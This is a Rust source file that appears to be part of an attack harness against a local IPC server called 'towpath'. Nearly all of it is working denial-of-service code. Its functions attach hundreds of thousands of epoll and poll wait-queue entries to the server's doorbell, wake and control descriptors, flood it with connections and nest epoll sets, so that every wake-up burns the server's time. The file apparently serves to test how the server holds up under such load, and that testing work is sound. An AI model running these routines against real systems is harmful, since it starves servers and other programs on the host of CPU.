//! Hundreds of thousands of wait-queue entries on an object that the server wakes: the server's own
//! system call walks them all.

use std::collections::VecDeque;
use std::io;
use std::os::fd::{AsFd, AsRawFd, BorrowedFd, OwnedFd};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use rustix::event::epoll;
use rustix::net::SendFlags;
use towpath_protocol::channel::Channel;
use towpath_protocol::message::{Close, Message};

use crate::session::{Target, connect_at_once};
use crate::{Deeds, Field, sys};

/// Wait-queue entries, unless the field says otherwise.
const ENTRIES: u64 = 300_000;
/// Entries on each connection of a flood.
const FLOOD_ENTRIES: u64 = 60_000;
/// Connections of a flood that the attacker keeps.
const HELD: usize = 2000;
/// Epoll sets of each connection of `flood-nested`, all in one outer set.
const SETS: usize = 50;
/// The pause between two such connections: the server's work is far longer.
const PAUSE: Duration = Duration::from_millis(2);
/// Descriptors left for other uses.
const SPARE: usize = 1500;
/// The time that one notification may take before the attacker requests the next.
const STEP: Duration = Duration::from_millis(500);

/// Epoll items: one for each pair of an epoll instance and a duplicate of the descriptor.
struct Items {
    count: u64,
    _epolls: Vec<OwnedFd>,
    _duplicates: Vec<OwnedFd>,
}

impl Items {
    fn on(descriptor: BorrowedFd<'_>, wanted: u64) -> io::Result<Items> {
        let most = sys::descriptor_limit().saturating_sub(SPARE).max(1);
        let duplicates = (0..most.min(wanted as usize))
            .map(|_| sys::duplicate(descriptor, 3))
            .collect::<io::Result<Vec<_>>>()?;
        let (mut epolls, mut count) = (Vec::new(), 0);
        'all: while count < wanted {
            let one = epoll::create(epoll::CreateFlags::CLOEXEC)?;
            for duplicate in &duplicates {
                let (data, flags) = (epoll::EventData::new_u64(0), epoll::EventFlags::IN);
                // The kernel limits the items of a user.
                if count == wanted || epoll::add(&one, duplicate, data, flags).is_err() {
                    epolls.push(one);
                    break 'all;
                }
                count += 1;
            }
            epolls.push(one);
        }
        Ok(Items { count, _epolls: epolls, _duplicates: duplicates })
    }
}

/// Threads that wait for a descriptor, each with as many entries as a process may have descriptors.
struct Pollers {
    stop: Arc<AtomicBool>,
    threads: Vec<JoinHandle<()>>,
}

impl Pollers {
    /// Starts threads that wait for events that never come, so that their entries stay through
    /// every wake-up.
    fn on(descriptor: BorrowedFd<'_>, wanted: u64) -> io::Result<Pollers> {
        let each = (sys::descriptor_limit() as u64).min(wanted).max(1);
        let stop = Arc::new(AtomicBool::new(false));
        let entry = libc::pollfd { fd: descriptor.as_raw_fd(), events: libc::POLLPRI, revents: 0 };
        let begun = Arc::new(AtomicU64::new(0));
        let mut threads = Vec::new();
        for _ in 0..wanted.div_ceil(each) {
            let (stop, begun) = (stop.clone(), begun.clone());
            let mut entries = vec![entry; each as usize];
            threads.push(std::thread::Builder::new().stack_size(64 << 10).spawn(move || {
                begun.fetch_add(1, Ordering::Relaxed);
                while !stop.load(Ordering::Relaxed) {
                    sys::poll_all(&mut entries, 1000);
                }
            })?);
        }
        while begun.load(Ordering::Relaxed) < threads.len() as u64 {
            std::thread::sleep(Duration::from_millis(1));
        }
        std::thread::sleep(Duration::from_millis(20));
        Ok(Pollers { stop, threads })
    }
}

impl Drop for Pollers {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        for thread in self.threads.drain(..) {
            let _ = thread.join();
        }
    }
}

/// Makes the server notify the session until the end.
fn be_notified(field: &Field, target: &mut Target) -> u64 {
    let mut notified = 0;
    while !field.over() {
        notified += u64::from(target.have_a_notification(STEP));
        target.take_notifications();
    }
    notified
}

/// Attaches epoll items to the doorbell.
pub(crate) fn epolls(field: &Field) -> io::Result<Deeds> {
    let mut target = Target::attach(&field.socket)?;
    let items = Items::on(target.doorbell(), field.size_or(ENTRIES))?;
    field.begun();
    let notified = be_notified(field, &mut target);
    Ok(vec![("entries", items.count), ("notified", notified)])
}

/// Attaches entries of `poll` to the doorbell.
pub(crate) fn polls(field: &Field) -> io::Result<Deeds> {
    let mut target = Target::attach(&field.socket)?;
    let entries = field.size_or(ENTRIES);
    let pollers = Pollers::on(target.doorbell(), entries)?;
    field.begun();
    let notified = be_notified(field, &mut target);
    drop(pollers);
    Ok(vec![("entries", entries), ("notified", notified)])
}

/// Attaches entries of `poll` to an epoll instance, and adds the doorbell to it after the server
/// has seen fast notifications.
pub(crate) fn nested(field: &Field) -> io::Result<Deeds> {
    let mut target = Target::attach(&field.socket)?;
    let entries = field.size_or(ENTRIES);
    let outer = epoll::create(epoll::CreateFlags::CLOEXEC)?;
    let pollers = Pollers::on(outer.as_fd(), entries)?;
    for _ in 0..100 {
        target.have_a_notification(STEP);
        target.take_notifications();
    }
    field.begun();
    let (data, flags) = (epoll::EventData::new_u64(0), epoll::EventFlags::IN);
    let mut notified = 0;
    // Added and removed in turn: the wait queue is short whenever the server looks.
    while !field.over() {
        epoll::add(&outer, target.doorbell(), data, flags)?;
        for _ in 0..8 {
            notified += u64::from(target.have_a_notification(STEP));
            target.take_notifications();
        }
        epoll::delete(&outer, target.doorbell())?;
        notified += u64::from(target.have_a_notification(STEP));
        target.take_notifications();
    }
    drop(pollers);
    Ok(vec![("entries", entries), ("notified", notified)])
}

/// Connects without waiting, again and again, with entries of `poll` on each connection: the server's close wakes them.
pub(crate) fn flood(field: &Field) -> io::Result<Deeds> {
    let entries = field.size_or(FLOOD_ENTRIES);
    let outer = epoll::create(epoll::CreateFlags::CLOEXEC)?;
    let pollers = Pollers::on(outer.as_fd(), entries)?;
    let (data, flags) = (epoll::EventData::new_u64(0), epoll::EventFlags::IN);
    let (mut held, mut connected) = (VecDeque::new(), 0);
    field.begun();
    while !field.over() {
        let Ok(socket) = connect_at_once(&field.socket) else { continue };
        epoll::add(&outer, &socket, data, flags)?;
        connected += 1;
        held.push_back(socket);
        if held.len() > HELD {
            held.pop_front();
        }
    }
    drop(pollers);
    Ok(vec![("entries", entries), ("connected", connected)])
}

/// Connects like [`flood`], with each connection in many epoll sets that are in one outer set: the server's close wakes the
/// entries on the outer set once for each of these sets.
pub(crate) fn nested_flood(field: &Field) -> io::Result<Deeds> {
    let entries = field.size_or(FLOOD_ENTRIES);
    let set = || epoll::create(epoll::CreateFlags::CLOEXEC);
    let outer = set()?;
    let (data, flags) = (epoll::EventData::new_u64(0), epoll::EventFlags::IN);
    let sets = (0..SETS).map(|_| set()).collect::<Result<Vec<_>, _>>()?;
    for one in &sets {
        epoll::add(&outer, one, data, flags)?;
    }
    let pollers = Pollers::on(outer.as_fd(), entries)?;
    let (mut held, mut connected) = (VecDeque::new(), 0);
    field.begun();
    while !field.over() {
        std::thread::sleep(PAUSE);
        let Ok(socket) = connect_at_once(&field.socket) else { continue };
        for one in &sets {
            epoll::add(one, &socket, data, flags)?;
        }
        connected += 1;
        held.push_back(socket);
        if held.len() > HELD {
            held.pop_front();
        }
    }
    drop(pollers);
    Ok(vec![("entries", entries), ("connected", connected)])
}

/// Attaches epoll items to the attacker's end of the control connection, which each answer wakes.
pub(crate) fn control(field: &Field) -> io::Result<Deeds> {
    let channel = crate::session::channel(&field.socket)?;
    let items = Items::on(channel.as_fd(), field.size_or(ENTRIES))?;
    let answered = be_answered(field, &channel);
    Ok(vec![("entries", items.count), ("answered", answered)])
}

fn be_answered(field: &Field, channel: &Channel) -> u64 {
    let message = Message::Close(Close { endpoint: 0 });
    field.begun();
    let mut answered = 0;
    while !field.over() {
        if crate::session::ask(channel, &message).is_some() {
            answered += 1;
        } else {
            std::thread::sleep(Duration::from_millis(1));
        }
    }
    answered
}

/// Attaches epoll items to the descriptor by which the attacker wakes the server: the server's read
/// wakes the waiters for writing.
pub(crate) fn wake(field: &Field) -> io::Result<Deeds> {
    let target = Target::attach(&field.socket)?;
    let Some(wake) = target.wakes.first() else {
        // There is no such descriptor to attack.
        field.begun();
        field.sit();
        return Ok(vec![("entries", 0), ("woken", 0)]);
    };
    let items = Items::on(wake.as_fd(), field.size_or(ENTRIES))?;
    field.begun();
    let mut woken = 0;
    while !field.over() {
        woken += u64::from(rustix::io::write(wake, &1_u64.to_ne_bytes()).is_ok());
        std::thread::sleep(Duration::from_micros(200));
    }
    Ok(vec![("entries", items.count), ("woken", woken)])
}

/// Attaches epoll items to a socket of the attacker's own. The socket is of the same kind as a
/// doorbell, but no server has it: this shows how much the kernel lets a program take from all
/// others.
pub(crate) fn alone(field: &Field) -> io::Result<Deeds> {
    let (sending, receiving) = towpath_protocol::doorbell::pair()?;
    let items = Items::on(receiving.as_fd(), field.size_or(ENTRIES))?;
    Ok(vec![("entries", items.count), ("woken", wake_own(field, &sending, &receiving))])
}

/// Attaches wait-queue entries of `poll` to a socket of the attacker's own, like [`alone`].
pub(crate) fn polls_alone(field: &Field) -> io::Result<Deeds> {
    let (sending, receiving) = towpath_protocol::doorbell::pair()?;
    let entries = field.size_or(ENTRIES);
    let pollers = Pollers::on(receiving.as_fd(), entries)?;
    let woken = wake_own(field, &sending, &receiving);
    drop(pollers);
    Ok(vec![("entries", entries), ("woken", woken)])
}

fn wake_own(field: &Field, sending: &OwnedFd, receiving: &OwnedFd) -> u64 {
    let flags = SendFlags::DONTWAIT | SendFlags::NOSIGNAL;
    field.begun();
    let mut woken = 0;
    while !field.over() {
        woken += u64::from(rustix::net::send(sending, &[1], flags).is_ok());
        let _ = rustix::io::read(receiving, &mut [0; 8]);
    }
    woken
}
